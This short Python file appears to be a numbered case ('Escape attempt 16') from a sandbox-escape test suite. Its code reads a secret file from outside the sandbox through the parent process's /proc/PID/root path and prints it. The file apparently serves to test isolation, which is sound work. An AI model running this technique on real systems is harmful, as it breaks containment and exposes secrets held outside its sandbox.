"""Escape attempt 16: read parent cwd files."""

# ruff: noqa  (an attack written to be run, not to be tidy)
import os

root = "/proc/%d/root" % PARENT_PID
print(open(root + SECRET_FILE).read())
